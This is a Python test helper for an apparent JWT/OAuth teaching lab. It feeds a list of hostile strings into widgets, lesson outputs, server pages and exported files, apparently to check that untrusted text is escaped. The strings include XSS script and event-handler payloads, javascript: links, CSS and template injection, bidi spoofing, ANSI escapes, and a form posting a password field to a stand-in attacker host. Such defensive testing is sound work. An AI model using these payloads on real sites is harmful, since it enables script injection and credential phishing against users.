"""Hostile texts, and every place of ours in which somebody else's text is shown."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import httpx

import jwtlab
from jwtlab import exercises, figures, widgets
from jwtlab.classroom import feedback
from jwtlab.widgets import view

lab = jwtlab.Lab()
KEY = lab.key("ES256")
HIT = "parent.window.hit=1;window.hit=1"
TEXTS = {
    "script": f"<script>{HIT}</script></textarea><script>{HIT}</script>--><script>{HIT}</script>",
    "handlers": f"<img src=x onerror='{HIT}'><svg onload='{HIT}'><details open ontoggle='{HIT}'>",
    "attribute": f"""\" autofocus onfocus="{HIT}" x=' onmouseover='{HIT}' style='position:fixed;inset:0' ` y=`""",
    "addresses": f"javascript:{HIT}//https://mallory.example/x.png <a href='javascript:{HIT}'>x</a>",
    "styles": "</style><style>*{display:none!important}</style><link rel=stylesheet href=https://mallory.example/>",
    "frames": "<iframe src=https://mallory.example></iframe><base href=https://mallory.example/><meta http-equiv="
    "refresh content='0;url=https://mallory.example/'><form action=https://mallory.example><input name=password>",
    "templates": "{{7*7}}{% raw %}${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('hit=1')()}}",
    "mime": '{"text/html": "<script>hit=1</script>", "application/javascript": "hit=1"}',
    "bidi": "alice\u202e\u2066nimda\u2069\u202c\u200b\u2028\ufeff\u061c admin",
    "latex": r"$$\href{javascript:hit=1}{x}$$ \(x^2\) \begin{equation}\require{html}\style{x}{y}\end{equation} $x$",
    "ansi": "\x1b[2J\x1b[31mred\x1b]8;;https://mallory.example\x07link\x1b]8;;\x07\x9b31m\x00\x07\x08",
    "megabyte": "wide" * 250_000,
    "surrogates": "half \ud800 and \udfff of a character \ud83d",
}


def token(text: str) -> str:
    """One that carries the text in every place that it has; not signed where it cannot be."""
    part = text[:12_000].encode("utf-8", "replace").decode()
    claims = {
        "sub": part,
        part[:900]: part[:900],
        "iss": [part[:900]],
        "exp": part[:900],
        "aud": {"x": part[:900]},
    }
    header = {"alg": "ES256", "typ": part[:900], "kid": part[:900], part[:900]: 1}
    parts = [json.dumps(each, ensure_ascii=True).encode() for each in (header, claims)]
    return ".".join(jwtlab.base64url.encode(each) for each in (*parts, b"x"))


def live(text: str, folder: Path) -> Iterator[tuple[str, view.View]]:
    """Every widget, after the text was sent to each of its actions, as value and as target."""
    whole = text.encode("utf-8", "replace").decode()  # half a character is refused there, in words
    made: dict[str, Callable[[], view.View]] = {
        "inspector": lambda: widgets.TokenInspector(token(text), lab=lab),
        "inspector-of-no-token": lambda: widgets.TokenInspector(text, lab=lab),
        "bench": lambda: widgets.VerifierBench(
            token(text),
            lab=lab,
            examples={text[:5000]: token(text)},
            issuer=text[:5000],
            audience=text[:5000],
        ),
        "builder": lambda: widgets.TokenBuilder(
            {text[:5000]: text, "sub": text}, header={text[:5000]: text}, lab=lab
        ),
        "stepper": lambda: widgets.SignatureStepper({"sub": whole, whole[:5000]: 1}, lab=lab),
        "attack": widgets.AttackBench,
        "crack": lambda: widgets.CrackBench(token(text), lists={text[:5000]: lambda: ["x"]}, workers=1),
        "flow": widgets.FlowStepper,
        "chooser": widgets.FlowChooser,
        "issuer": widgets.IssuerExplorer,
        "trace": widgets.TraceReader,
        "quiz": lambda: widgets.Quiz("01"),
        "predict": lambda: widgets.Predict("01.p1"),
        "map": lambda: widgets.LessonMap(
            exercises.Progress(folder / whole[:60].replace("/", "").replace("\0", ""))
        ),
        "glossary": widgets.Glossary,
        "why": widgets.WhyIndex,
    }
    for name, make in made.items():
        yield name, make()


QUIET = {"fetch", "begin", "finish", "ask", "start"}
"""They work for a while, or ask an address: not with a text that is no address."""


def provoke(widget: view.View, text: str) -> None:
    """Send the text to every action of a widget, as the page could."""
    for action in widget.actions:
        if action in QUIET:
            continue
        for target in ("", text[:5000], "claim:0", "redirect_uri"):
            widget._handle_custom_msg({"action": action, "value": text, "name": target}, [])


def outputs(text: str) -> Iterator[tuple[str, str]]:
    """Outputs of lessons that hold the text: cards, tables, heads, pictures."""
    short = text[:20_000]
    for number in ("01.1", "01.2", "02.1", "05.1", "13.1", "23.2"):
        yield f"check-{number}", widgets.check(number, text)._repr_html_()
    yield "check-of-an-unknown", widgets.check(text[:2000], text)._repr_html_()
    yield "hint-of-an-unknown", widgets.hint(text[:2000])._repr_html_()
    yield "table", widgets.table([(short, short)], short, short)._repr_html_()
    yield "problem", view.Card("problem.html", text, message=short)._repr_html_()
    yield "exception", widgets.check("01.3", _raising(text))._repr_html_()
    for name, picture in pictures(text).items():
        data, _ = picture._repr_mimebundle_()
        yield name, data["text/html"]


def _raising(text: str) -> Callable[..., Any]:
    def answer(*_: Any) -> Any:
        raise ValueError(text)

    return answer


def pictures(text: str) -> dict[str, Any]:
    """Figures with the text in them."""
    good = jwtlab.issue({"sub": text[:3000].encode("utf-8", "replace").decode()}, KEY, alg="ES256")
    flow = lab.flow("authorization-code")
    trace = flow.run().trace
    return {"anatomy": figures.anatomy(good), "sequence": figures.sequence(trace[:4])}


def pages(text: str, folder: Path) -> Iterator[tuple[str, httpx.Response]]:
    """Pages of jwtlab serve that show what the request, a mail or a file says."""
    from jwtlab.oauth.authorization_server import responses
    from jwtlab.oauth.world import Mail
    from jwtlab.served import Options, Served

    short = text[:3000].encode("utf-8", "replace").decode()
    served = Served("http://127.0.0.1:1", Options())
    good = {
        "response_type": "code",
        "client_id": "spa",
        "redirect_uri": "http://127.0.0.1/callback",
        "code_challenge": "x" * 43,
        "code_challenge_method": "S256",
        "scope": "openid",
    }
    asked = {
        "unknown-client": ("/authorize", good | {"client_id": short}),
        "strange-redirect": ("/authorize", good | {"redirect_uri": short}),
        "login": ("/authorize", good | {"login_hint": short, "state": short, "nonce": short}),
        "scope": ("/authorize", good | {"scope": short}),
        "form-post": ("/authorize", good | {"response_mode": "form_post", "prompt": "none", "state": short}),
        "device": ("/device", {"user_code": short}),
        "magic": ("/magic", {"token": short}),
        "logout": ("/logout", {"id_token_hint": token(text)[:3000], "state": short, "client_id": short}),
        "nowhere": ("/nowhere", {"x": short}),
    }
    transport = httpx.WSGITransport(app=served.app)
    with httpx.Client(transport=transport, base_url="http://127.0.0.1:1") as http:
        for name, (path, parameters) in asked.items():
            yield name, http.get(path, params=parameters)
    mails = [Mail(short, short, f"{short} https://mallory.example/{short}")]
    with served.server.app.test_request_context("/"):
        for name, made in {
            "mailbox": responses.page("mailbox.html", mails=mails),
            "error": responses.page("error.html", 400, code=short, reason=short),
        }.items():
            yield name, httpx.Response(200, text=made.get_data(as_text=True), headers=dict(made.headers))
    served.close()


def files(text: str, folder: Path) -> Iterator[tuple[str, str]]:
    """Files that one opens: a page of feedback, exported pictures; names end with their kind."""
    note, name = text[:20_000], text[:5000].encode("utf-8", "replace").decode()
    row = SimpleNamespace(
        student="alice",
        assignment="a1_tokens",
        status="unreadable",
        of=10,
        note=note.encode("utf-8", "replace").decode(),
    )
    yield "feedback.html", feedback.write_problem(folder, row, name).read_text("utf-8")
    for place, picture in pictures(text).items():
        yield f"{place}.svg", picture.svg_file()
